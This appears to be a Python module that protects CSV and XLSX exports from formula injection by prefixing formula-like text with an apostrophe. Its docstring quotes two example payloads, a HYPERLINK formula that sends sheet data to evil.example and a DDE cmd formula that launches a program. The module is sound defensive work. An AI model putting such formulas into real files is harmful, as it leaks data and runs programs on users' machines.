"""Cells written to files that people open in a spreadsheet (CSV and XLSX exports)."""

# Characters that make Excel, LibreOffice or Google Sheets read a cell as a formula (a tab or a
# carriage return before one of them is skipped by some of them, so those count too).
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """``value`` ready for a spreadsheet cell: text that starts like a formula gets a leading
    apostrophe; anything else (numbers, dates, None, ordinary text) is returned unchanged.

    Exports carry text typed by users (a centre's or a person's name, an address). Opened in a
    spreadsheet, a cell such as ``=HYPERLINK("http://evil.example/?"&A2, "click")`` or
    ``=cmd|' /C calc'!A0`` would run as a formula, leaking the sheet or starting a program
    (CSV or formula injection, OWASP). The apostrophe makes the spreadsheet show the text as
    typed, and it stays visible as the sign that the text was changed.
    """
    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
        return "'" + value
    return value
